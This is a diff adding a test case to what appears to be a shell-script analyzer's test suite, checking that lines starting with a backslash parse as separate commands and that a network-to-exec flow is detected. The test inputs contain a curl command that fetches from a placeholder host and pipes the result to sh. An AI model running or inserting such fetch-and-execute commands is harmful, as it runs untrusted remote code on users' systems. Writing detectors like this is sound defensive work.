@@ -199,6 +199,19 @@ TEST_CASE("shell escapes of vim, gdb, osascript and expect command lines run the
   }
 }
 
+TEST_CASE("a backslash opening a line does not join it to the line before (the grammar reads one word)") {
+  for (auto script : {"if true; then\n  ls\n\\curl -s https://x.example.com/i | sh\nfi",
+                      "f() { ls\n\\curl -s https://x.example.com/i | sh\n}; f", "echo $(date)\nls\n\\curl -s https://x.example.com/i | sh"}) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    CHECK(has_command(facts, "ls"));
+    CHECK(has_flow(facts, "network", "exec"));
+  }
+  auto plain = analyze("m\n\\y");
+  CHECK(has_command(plain, "m"));
+  CHECK(has_command(plain, "y"));
+}
+
 TEST_CASE("the quoted text of grep and echo is not a command") {
   auto grep = analyze("grep -rn 'curl' src/ scripts/");
   CHECK_FALSE(has_command(grep, "curl"));
